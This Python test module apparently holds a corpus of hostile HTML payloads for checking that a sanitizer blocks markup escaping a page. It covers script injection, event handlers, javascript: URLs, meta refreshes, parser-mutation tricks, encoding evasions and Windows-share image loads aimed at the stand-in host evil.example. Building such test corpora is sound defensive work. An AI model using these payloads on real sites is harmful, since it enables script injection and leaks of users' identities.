"""Markup that tries to break out of a page: MARKUP holds (name, text) in which URL and SCRIPT are to be filled in.

The names tell the trick. What hides, composes or reaches for a share did break out of HTML bodies once, and pieces of
variables out of pages.
"""

SCRIPT = "document.title='ANGRIFF';window.angriff=1"

ELEMENTS = [
    ("script", "<script>SCRIPT</script>"),
    ("script-src", "<script src=URL></script>"),
    ("script-module", "<script type=module>SCRIPT;import('URL')</script>"),
    ("script-case", "<ScRiPt\t/x>SCRIPT</sCrIpT\n>"),
    ("script-data", "<script src=\"data:text/javascript,SCRIPT\"></script>"),
    ("speculation-rules", '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>'),
    ("import-map", '<script type=importmap>{"imports":{"a":"URL"}}</script><script type=module>import "a"</script>'),
    ("img-onerror", "<img src=x onerror=SCRIPT>"),
    ("img-src", "<img src=URL>"),
    ("img-srcset", "<img srcset='URL 1x, URL 2x' sizes=1px>"),
    ("picture", "<picture><source srcset=URL><img src=URL></picture>"),
    ("img-protocol-relative", "<img src=\"//HOST/x.png\">"),
    ("image", "<image src=URL onerror=SCRIPT>"),
    ("body-onload", "<body onload=SCRIPT background=URL>"),
    ("handlers", "<div onmouseover=SCRIPT onfocus=SCRIPT tabindex=0 autofocus onanimationstart=SCRIPT onclick=SCRIPT>x</div>"),
    ("input-autofocus", "<input autofocus onfocus=SCRIPT><input type=image src=URL onerror=SCRIPT>"),
    ("details-ontoggle", "<details open ontoggle=SCRIPT><summary>x</summary></details>"),
    ("video", "<video src=URL poster=URL autoplay onerror=SCRIPT><source src=URL><track src=URL default></video>"),
    ("audio", "<audio src=URL autoplay onerror=SCRIPT></audio>"),
    ("marquee", "<marquee onstart=SCRIPT>x</marquee>"),
    ("link-javascript", "<a href=\"javascript:SCRIPT\">klick</a><a href=' &#1; jAvAsCrIpT&Tab;:SCRIPT'>klick</a>"),
    ("link-vbscript", "<a href=\"vbscript:MsgBox(1)\">klick</a>"),
    ("link-data", "<a href=\"data:text/html,<script>SCRIPT</script>\">klick</a>"),
    ("link-ping", "<a href='#' ping=URL>klick</a>"),
    ("base", "<base href=URL/><img src=bild.png><a href=x>x</a>"),
    ("base-target", "<base target=_top href='javascript:/a/-SCRIPT//'>"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=URL\">"),
    ("meta-refresh-script", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:SCRIPT\">"),
    ("meta-refresh-reference", "<meta http-equiv=\"re&#102;resh\" content=\"0;url=URL\">"),
    ("meta-refresh-case", "<MeTa/HTTP-EQUIV = ' refresh ' CONTENT='0;URL'>"),
    ("meta-cookie", "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=x-dns-prefetch-control content=on>"),
    ("meta-charset", "<meta charset=utf-7>+ADw-script+AD4-SCRIPT+ADw-/script+AD4-"),
    ("meta-charset-utf16", "<meta http-equiv=content-type content='text/html;charset=utf-16le'>"),
    ("meta-policy", "<meta http-equiv=content-security-policy content=\"default-src *; script-src * 'unsafe-inline'\"><script>SCRIPT</script>"),
    ("link-stylesheet", "<link rel=stylesheet href=URL>"),
    ("link-preconnect", "<link rel=preconnect href=URL><link rel=dns-prefetch href=URL><link rel=preload as=image href=URL>"),
    ("link-prerender", "<link rel=prerender href=URL><link rel=prefetch href=URL><link rel=modulepreload href=URL>"),
    ("link-icon", "<link rel=icon href=URL><link rel=manifest href=URL>"),
    ("iframe", "<iframe src=URL></iframe>"),
    ("iframe-script", "<iframe src=\"javascript:parent.document.title='ANGRIFF';parent.angriff=1\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.document.title='ANGRIFF';parent.angriff=1</script><img src=URL>\"></iframe>"),
    ("frameset", "<frameset onload=SCRIPT><frame src=URL></frameset>"),
    ("object", "<object data=URL type=image/svg+xml><embed src=URL></object>"),
    ("object-html", "<object data=\"data:text/html,<script>parent.angriff=1</script>\"></object>"),
    ("embed", "<embed src=URL><embed src=\"javascript:SCRIPT\" type=text/html>"),
    ("applet", "<applet code=URL archive=URL></applet><param name=src value=URL>"),
    ("portal", "<portal src=URL></portal><fencedframe src=URL></fencedframe>"),
    ("form", "<form action=URL><input name=a value=b><button autofocus>Senden</button></form>"),
    ("form-script", "<form action=\"javascript:SCRIPT\"><input type=submit formaction=\"javascript:SCRIPT\"></form>"),
    ("form-clobber", "<form id=document><input name=title><input id=cookie></form><img name=body><img name=head>"),
    ("isindex", "<isindex action=URL prompt=x><keygen autofocus onfocus=SCRIPT>"),
    ("svg-script", "<svg><script>SCRIPT</script><script href=URL /></svg>"),
    ("svg-onload", "<svg/onload=SCRIPT>"),
    ("svg-image", "<svg><image href=URL /><image xlink:href=URL /><use href='URL#x'/><feImage href=URL /></svg>"),
    ("svg-animate", "<svg><a><animate attributeName=href values=javascript:SCRIPT /><text x=20 y=20>klick</text></a></svg>"),
    ("svg-set", "<svg><set attributeName=onload to=SCRIPT /><handler ev:event=load>SCRIPT</handler></svg>"),
    ("svg-foreign", "<svg><foreignObject><body onload=SCRIPT><iframe src=URL></iframe></foreignObject></svg>"),
    ("math", "<math href=\"javascript:SCRIPT\">klick<maction actiontype=statusline xlink:href=URL>x</maction></math>"),
    ("css-url", "<style>body{background:url(URL)}@font-face{font-family:a;src:url(URL)}*{font-family:a;cursor:url(URL),auto}</style>"),
    ("css-import", "<style>@import 'URL';@import url(URL);</style>"),
    ("css-expression", "<div style=\"width:expression(SCRIPT);behavior:url(URL);-moz-binding:url(URL#a)\">x</div>"),
    ("css-attribute", "<div style=\"background:url('URL');list-style:url(URL);content:url(URL)\">x</div>"),
    ("css-image-set", "<p style=\"background-image:image-set('URL' 1x);mask:url(URL#m);filter:url(URL#f)\">x</p>"),
    ("css-break", "</style><script>SCRIPT</script><style>"),
    ("title-break", "</title><script>SCRIPT</script><title>"),
    ("textarea-break", "</textarea></xmp></script></noscript><script>SCRIPT</script>"),
    ("comment-break", "--><script>SCRIPT</script><!--"),
    ("comment-open", "<!--"),
    ("comment-odd", "<!--><script>SCRIPT</script>--><!---><script>SCRIPT</script>--!><script>SCRIPT</script>"),
    ("attribute-break", "\"'><script>SCRIPT</script><a href=\""),
    ("attribute-handler", "\" onmouseover=\"SCRIPT\" x='\" onerror='SCRIPT' src='"),
    ("tag-open", "<img src=x onerror=SCRIPT "),
    ("processing", "<?xml-stylesheet href='URL'?><?php SCRIPT ?><%SCRIPT%><!DOCTYPE a [<!ENTITY b SYSTEM 'URL'>]>&b;"),
    ("entities", "&lt;script&gt;SCRIPT&lt;/script&gt;&#60;script&#62;SCRIPT&#60;/script&#62;"),
    ("null-in-tag", "<scr\0ipt>SCRIPT</script><me\0ta http-equiv=refresh content='0;url=URL'><\0img src=URL>"),
    ("control-in-tag", "<scr\x01ipt>SCRIPT</script><\x0bscript>SCRIPT</script><img\x0csrc=URL\x0conerror=SCRIPT>"),
    ("utf-7", "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-"),
    ("overlong", "\u00bcscript\u00beSCRIPT\u00bc/script\u00be\uff1cscript\uff1eSCRIPT\uff1c/script\uff1e"),
    ("xml-namespace", "<html xmlns:x='URL'><x:script src=URL>SCRIPT</x:script><xss style='behavior:url(URL)'></html>"),
    ("template", "<template><script>SCRIPT</script><img src=URL></template>"),
    ("shadow-root", "<div><template shadowrootmode=open><img src=URL onerror=SCRIPT><meta http-equiv=refresh content='0;url=URL'></template></div>"),
    ("noscript-attribute", "<noscript><p title=\"</noscript><img src=URL onerror=SCRIPT>\"></noscript>"),
    ("mutation-math", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=SCRIPT&gt;\">"),
    ("mutation-form", "<form><math><mtext></form><form><mglyph><style></math><img src=URL onerror=SCRIPT></style>"),
    ("mutation-svg", "<svg></p><style><a id=\"</style><img src=URL onerror=SCRIPT>\">"),
    ("mutation-listing", "<listing>&lt;img onerror=SCRIPT src=URL&gt;</listing>"),
    ("mutation-nesting", "<b>" * 600 + "<table><tr><a href=x><svg><desc><img src=URL onerror=SCRIPT>"),
    ("attribution", "<img attributionsrc=URL src=data:,><a attributionsrc=URL href='#'>x</a><script attributionsrc=URL></script>"),
    ("manifest", "<html manifest=URL xml:base=URL><body><img src=x.png crossorigin loading=lazy fetchpriority=high>"),
    ("client-hints", "<meta http-equiv=delegate-ch content='sec-ch-ua URL'><meta http-equiv=origin-trial content=x>"),
    ("popover", "<div popover=manual onbeforetoggle=SCRIPT><dialog open onclose=SCRIPT><button popovertarget=x formaction=URL>x</button>"),
    ("annotation", "<math><annotation-xml encoding=text/html><script>SCRIPT</script><img src=URL></annotation-xml></math>"),
    ("css-rules", "<style>@namespace url(URL);@font-face{font-family:b;src:local(x),url(URL)}p{-webkit-mask-image:url(URL);"
                  "shape-outside:url(URL);border-image:url(URL);offset-path:url(URL#p)}p::before{content:url(URL)}</style><p>x"),
    ("css-style-svg", "<svg><style>@import 'URL';</style><defs><filter id=f><feImage xlink:href=URL /></filter></defs>"
                      "<rect filter='url(#f)' fill='url(URL#g)' width=9 height=9 /></svg>"),
    ("svg-link", "<svg width=99 height=99><a xlink:href=\"javascript:SCRIPT\"><text y=20>klick</text></a></svg>"),
    ("object-javascript", "<object data=\"javascript:SCRIPT\"></object><embed src=\"data:text/html,<script>SCRIPT</script>\">"),
    ("plaintext", "<plaintext><script>SCRIPT</script>"),
    ("variables", "%VELMORA_TITLE%%VELMORA_SUBJECT%%VELMORA_FROM%%VELMORA_TO%%VELMORA_CONTENT%%VELMORA_ATTLINKS%"
                  "%VELMORA_EML%%VELMORA_MSGCOMMENT%%VELMORA_IDXLINKS%%VELMORA_COPYRIGHT%%VELMORA_COMMENT%"),
    ("variable-pieces", "<me%VELMORA_MSGCOMMENT%ta http-equiv=refresh content='0;url=URL'>"),
    ("variable-pieces-attachments", "<ifr%VELMORA_ATTLINKS%ame src=URL><me%VELMORA_EML%ta http-equiv=refresh content='0;url=URL'>"),
    ("local-file", "<img src=\"file:///etc/hostname\"><img src='file:///c:/windows/x.png'>"),
]

# A redirect hidden where one reader of HTML sees text and another one markup.
REDIRECT = "<meta http-equiv=refresh content='0;url=URL'>"
HIDING_PLACES = [
    ("svg-style", "<svg><style>HIDDEN</style></svg>"),
    ("svg-title", "<svg><title>HIDDEN</title></svg>"),
    ("math-style", "<math><style>HIDDEN</style></math>"),
    ("math-xmp", "<math><mi><xmp></math>HIDDEN</xmp>"),
    ("svg-textarea", "<svg><textarea>HIDDEN</textarea></svg>"),
    ("svg-cdata", "<svg><![CDATA[><!-- ]]>HIDDEN -->"),
    ("html-cdata", "<![CDATA[>HIDDEN]]>"),
    ("noscript-comment", "<noscript><!--</noscript>HIDDEN-->"),
    ("noembed", "<noembed><!--</noembed>HIDDEN--></noembed>"),
    ("noframes", "<noframes><p title=\"</noframes>HIDDEN\">"),
    ("select-style", "<select><style></select>HIDDEN</style>"),
    ("select-xmp", "<select><option><xmp></select>HIDDEN</xmp>"),
    ("comment", "<!--a--!>HIDDEN-->"),
    ("comment-arrow", "<!--->HIDDEN-->"),
    ("attribute", "<p title='>HIDDEN'>"),
    ("end-tag", "</p title='>HIDDEN'>"),
    ("bogus-comment", "<?a '>HIDDEN'>"),
    ("template", "<template><style>HIDDEN</template></style>HIDDEN"),
    ("frameset", "<frameset><style></frameset>HIDDEN</style>"),
    ("iframe-text", "<iframe></iframe/>HIDDEN</iframe>"),
    ("title-odd-end", "<title></title/x>HIDDEN</title>"),
    ("style-nested", "<svg><style><svg><p>HIDDEN</style>"),
]

# What is dropped must not leave a tag of what stood around it.
COMPOSED = [
    ("composed-meta", "<<base>meta http-equiv=refresh content='0;url=URL'>"),
    ("composed-iframe", "<<script></script>iframe src=URL></iframe><<link>link rel=preconnect href=URL>"),
    ("composed-quotes", "<img src=//evil.example/a\"src=URL><p style=a\"onmouseover=SCRIPT//cid:bild>x</p>"),
    ("composed-values", "<%VELMORA_FROM%<%VELMORA_TO%"),
]

# Reaching for another computer through the file system: a Windows share gives away who looks.
SHARES = [
    ("share-img", r"<img src='\\evil.example\a\x.png'><img src='//evil.example/a/x.png'><img src=file://evil.example/a/x.png>"),
    ("share-odd", r"<img src='/\evil.example/a'><img src='/&#9;/evil.example/a'><img src=' &#x2f;&sol;evil.example/a'>"
                  r"<img src='FILE:\\evil.example\a'><img src='fi&NewLine;le:////evil.example/a'>"),
    ("share-srcset", "<img srcset='//evil.example/a 1x, \\\\evil.example\\b 2x'><video poster='//evil.example/a'></video>"),
    ("share-table", "<table background='//evil.example/a'><td background='\\\\evil.example\\a'>x</table>"),
    ("share-svg", "<svg width=9 height=9><image width=9 height=9 href='//evil.example/a'/><rect fill=\"url('//evil.example/a#b')\" width=9 height=9 /></svg>"),
    ("share-style", "<p style=\"background:url(//evil.example/a)\">x<p style='background:url(\"\\\\\\\\evil.example/a\")'>x"
                    "<p style='background:url(file://evil.example/a)'>x<p style='background:image-set(\"//evil.example/a\" 1x)'>x"),
    ("share-style-escapes", r"<style>i{background:url('\2f /evil.example/a')}b{background:url(\2f\2f evil.example/a)}"
                            r"u{background:\75 rl(//evil.example/a)}p{background:url(\66ile://evil.example/a)}"
                            "s{background:url('/\\\n/evil.example/a')}q{background:url('/\t/evil.example/a')}</style>"
                            "<i>a</i><b>a</b><u>a</u><s>a</s><q>a</q><p>a</p>"),
]

# In ISO-2022-JP an escape sequence between two letters is nothing at all: a page without a character set that is
# taken for such a text has tags that no search finds.
ESCAPES = [
    ("escape-sequence", "<me\x1b(Bta http-equiv=refresh content='0;url=URL'><ifr\x1b(Bame src=URL>"),
    ("escape-quote", "\x1b$B!!\x1b(B<img alt=\"\x1b$B\"><p title=\"\x1b(B\"><img src=URL onerror=SCRIPT>"),
]

MARKUP = ELEMENTS + COMPOSED + [(f"hidden-{name}", text.replace("HIDDEN", REDIRECT)) for name, text in HIDING_PLACES] + SHARES + ESCAPES


def filled(text, host, case=""):
    """With the address of the listener, and a path that tells the case."""
    return text.replace("URL", f"http://{host}/{case}").replace("HOST", host).replace("SCRIPT", SCRIPT)
